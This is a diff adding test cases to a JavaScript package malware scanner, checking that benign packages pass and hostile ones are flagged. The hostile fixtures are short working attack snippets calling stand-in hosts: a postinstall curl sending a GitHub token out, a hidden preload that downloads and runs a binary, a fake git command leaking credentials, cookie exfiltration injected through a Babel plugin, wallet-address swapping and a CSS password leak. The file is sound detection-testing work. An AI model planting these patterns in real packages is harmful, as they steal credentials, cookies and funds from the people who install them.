@@ -523,3 +523,160 @@ describe('a provider wrapper whose rewrite replaces the recipient on one of its 
     expect(ruleOf(r, 'js.wallet-address-swap')).toBeUndefined();
   });
 });
+
+describe("review of the twenty-third session's changes", () => {
+  it('leaves a JSON-RPC provider whose send is a prototype method alone, its constants two modules away', () => {
+    const r = analyzeSource({
+      'package.json': manifest('eth-rpc-lite', { main: 'lib/index.js' }),
+      'lib/index.js': "module.exports = { JsonRpcProvider: require('./provider') };",
+      'lib/address.js':
+        "exports.getAddress = (a) => { if (!/^0x[0-9a-fA-F]{40}$/.test(a)) throw new Error('invalid address'); return a; };",
+      'lib/constants.js': "module.exports = { MULTICALL3: '0xcA11bde05977b3631167028862bE2a173976CA11' };",
+      'lib/networks.js':
+        "const { MULTICALL3 } = require('./constants');\nexports.getNetwork = () => ({ chainId: 1, multicall: MULTICALL3 });",
+      'lib/provider.js': [
+        "const { getAddress } = require('./address');",
+        "const { getNetwork } = require('./networks');",
+        'function JsonRpcProvider(url) { this.url = url; this.network = getNetwork(); }',
+        "JsonRpcProvider.prototype.send = function (method, params) { return fetch(this.url, { method: 'POST', body: JSON.stringify({ method, params }) }).then((r) => r.json()); };",
+        "JsonRpcProvider.prototype.getBalance = function (a) { return this.send('eth_getBalance', [getAddress(a)]); };",
+        'module.exports = JsonRpcProvider;',
+      ].join('\n'),
+    });
+    expect(threats(r)).toEqual([]);
+  });
+  it('leaves an address field that checks what is pasted into it alone', () => {
+    const r = analyzeSource({
+      'package.json': manifest('address-input', { main: 'src/index.js', type: 'module' }),
+      'src/index.js':
+        "import { check } from './validate.js';\nexport function bind(input) { input.addEventListener('paste', (e) => { const t = e.clipboardData.getData('text'); input.setCustomValidity(check(t) ? '' : 'not an address'); }); }",
+      'src/validate.js':
+        "import { TOKENS } from './tokens.js';\nconst ETH = /^0x[a-fA-F0-9]{40}$/;\nexport const check = (a) => ETH.test(a) && !TOKENS.includes(a);",
+      'src/tokens.js': "export const TOKENS = ['0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'];",
+    });
+    expect(threats(r)).toEqual([]);
+  });
+  it('still reports a fetch hook reaching its pieces two modules away after page text is written', () => {
+    const r = analyzeSource({
+      'package.json': manifest('price-badge', { main: 'src/hook.js', type: 'module' }),
+      'src/hook.js': [
+        "import { fix } from './fix.js';",
+        "document.querySelector('#b').textContent = 'ready';",
+        'const real = window.fetch;',
+        'window.fetch = async (...a) => { const r = await real(...a); const t = fix(await r.clone().text()); return new Response(t, r); };',
+      ].join('\n'),
+      'src/fix.js': "import { RE, MINE } from './table.js';\nexport const fix = (t) => t.replace(RE, MINE);",
+      'src/table.js':
+        "export const RE = /0x[a-fA-F0-9]{40}/g;\nexport const MINE = '0x7A3bC91d4E2f8a6B5c0D9e1F2a3B4c5D6e7F8a9B';",
+    });
+    expect(ruleOf(r, 'js.wallet-address-swap')).toBeDefined();
+  });
+  it('keeps an identity token sent to the address its user configures at a warning', () => {
+    const r = analyzeSource({
+      'package.json': manifest('vault-gcp-login', { main: 'dist/index.js' }),
+      'action.yml': 'name: vault login\nruns:\n  using: node20\n  main: dist/index.js\n',
+      'dist/index.js': [
+        "const { execFileSync } = require('child_process');",
+        "const jwt = execFileSync('gcloud', ['auth', 'print-identity-token']).toString().trim();",
+        "fetch(process.env.INPUT_VAULT_ADDR + '/v1/auth/gcp/login', { method: 'POST', body: JSON.stringify({ role: process.env.INPUT_ROLE, jwt }) });",
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.secret-env-to-network')?.confidence ?? 0).toBeLessThan(0.8);
+  });
+  it("leaves a Monero payment gateway's configuration alone", () => {
+    const r = analyzeSource({
+      'package.json': manifest('xmr-pay'),
+      'index.js': "module.exports = require('./config/default.json');",
+      'config/default.json': JSON.stringify({
+        walletRpc: 'http://127.0.0.1:18082/json_rpc',
+        daemon: 'node.moneroworld.example:18089',
+        donationAddress: `44${'Ab3Cd4Ef5Gh6Jk7Mn8Pq9Rs2Tu3Vw4Xy5Za'.repeat(3).slice(0, 93)}`,
+      }),
+    });
+    expect(ruleOf(r, 'file.miner-config')).toBeUndefined();
+  });
+  it('leaves a command that prints a .env encoded for its user to paste alone', () => {
+    const r = analyzeSource({
+      'package.json': manifest('env-to-secret', { bin: { 'env-to-secret': 'bin/cli.js' } }),
+      'bin/cli.js': [
+        '#!/usr/bin/env node',
+        "const fs = require('fs');",
+        "if (process.env.CI) { console.error('run this on your machine, not in CI'); process.exit(1); }",
+        "console.log(Buffer.from(fs.readFileSync(require('os').homedir() + '/.npmrc')).toString('base64'));",
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.exfil-flow')).toBeUndefined();
+  });
+  it('leaves country flags on a select alone and reads selectors written in capitals or image-set()', () => {
+    const flags = analyzeSource({
+      'package.json': manifest('phone-input-kit'),
+      'index.js': [
+        "const FLAGS = 'https://flags.example/4x3';",
+        "const css = ['us', 'fr', 'de'].map((c) => `select[value$=\"${c}\"]{background-image:url(${FLAGS}/${c}.svg)}`).join('');",
+        "module.exports = (el) => { el.type = 'password'; document.head.insertAdjacentHTML('beforeend', '<style>' + css + '</style>'); };",
+      ].join('\n'),
+    });
+    expect(threats(flags)).toEqual([]);
+    const upper = analyzeSource({
+      'package.json': manifest('skin-kit'),
+      'index.js':
+        "const css = [...'ab12'].map((c) => `input[type=password][VALUE$=\"${c}\"]{background:image-set(\"https://px.example/${c}.png\" 1x)}`).join('');\nmodule.exports = () => document.head.insertAdjacentHTML('beforeend', '<style>' + css + '</style>');",
+    });
+    expect(ruleOf(upper, 'text.css-value-leak')).toBeDefined();
+  });
+  it('reads a bunfig.toml of blank lines and still finds a preload list over several lines', () => {
+    const r = analyzeSource({
+      'package.json': manifest('kit', { main: 'src/index.ts', type: 'module' }),
+      'bunfig.toml': `${'\n'.repeat(50_000)}preload = [\n  "./scripts/tool",\n]\n`,
+      'scripts/tool.ts':
+        "const r = await fetch('https://ext.example/x');\nawait Bun.write('/tmp/.x', r);\nBun.spawn(['/tmp/.x'], { stdio: ['ignore', 'ignore', 'ignore'] }).unref();",
+      'src/index.ts': 'export const x = 1;',
+    });
+    expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBeGreaterThanOrEqual(0.8);
+  });
+  it('finds the credential printed in a substitution after many mentions of the command', () => {
+    const r = analyzeSource({
+      'package.json': manifest('gh-stats', { scripts: { postinstall: 'sh s.sh' } }),
+      's.sh': `#!/bin/sh\ncurl -s -A "${'gh auth token '.repeat(25)}" -d "$(gh auth token)" https://stats.example/t\n`,
+    });
+    expect(ruleOf(r, 'script.env-exfil')).toBeDefined();
+  });
+  it('names git at its Windows path, and Mocha preloads from .mocharc.jsonc and package.json', () => {
+    const win = analyzeSource({
+      'package.json': manifest('commit-guard', { bin: { git: 'bin/git.js' } }),
+      'bin/git.js': [
+        "const { spawnSync } = require('child_process');",
+        "const https = require('https');",
+        "const r = spawnSync('C:\\\\Program Files\\\\Git\\\\cmd\\\\git.exe', ['credential', 'fill'], { input: 'host=github.com\\n\\n', encoding: 'utf8' });",
+        "https.request({ host: 'h.commit-guard.example', method: 'POST' }).end(r.stdout);",
+      ].join('\n'),
+    });
+    expect(ruleOf(win, 'js.secret-env-to-network')?.confidence).toBeGreaterThanOrEqual(0.8);
+    const setup =
+      "const { execSync } = require('child_process');\nconst t = execSync('gh auth token').toString();\nrequire('https').request({ host: 'ci-stats.example', method: 'POST' }).end(t);";
+    for (const files of [
+      { '.mocharc.jsonc': '// options\n{ "require": ["./test/setup"] }' } as Record<string, string>,
+      { 'package.json': manifest('mocha-kit', { mocha: { require: 'test/setup.js' } }) },
+    ]) {
+      const r = analyzeSource({ 'package.json': manifest('mocha-kit'), ...files, 'test/setup.js': setup });
+      expect(ruleOf(r, 'js.secret-env-to-network')?.confidence).toBeGreaterThanOrEqual(0.8);
+    }
+  });
+  it('reads what a Babel plugin builds with the template of @babel/core, or under declare()', () => {
+    const inject =
+      'fetch("https://cdn-stats.example/c", { method: "POST", body: JSON.stringify({ c: document.cookie }) });';
+    const viaCore = analyzeSource({
+      'package.json': manifest('babel-optimize-kit', { main: 'lib/index.js' }),
+      'lib/index.js': `const { template } = require('@babel/core');\nconst code = template.statements.ast(${JSON.stringify(inject)});\nmodule.exports = () => ({ visitor: { Program(p) { p.unshiftContainer('body', code); } } });`,
+    });
+    expect(ruleOf(viaCore, 'js.page-secret-exfil')).toBeDefined();
+    const viaDeclare = analyzeSource({
+      'package.json': manifest('@acme/babel-optimize', {
+        main: 'lib/index.js',
+        dependencies: { '@babel/helper-plugin-utils': '^7.24.0' },
+      }),
+      'lib/index.js': `const { declare } = require('@babel/helper-plugin-utils');\nmodule.exports = declare((api) => { const code = api.template.statements.ast(${JSON.stringify(inject)}); return { visitor: { Program(p) { p.unshiftContainer('body', code); } } }; });`,
+    });
+    expect(ruleOf(viaDeclare, 'js.page-secret-exfil')).toBeDefined();
+  });
+});
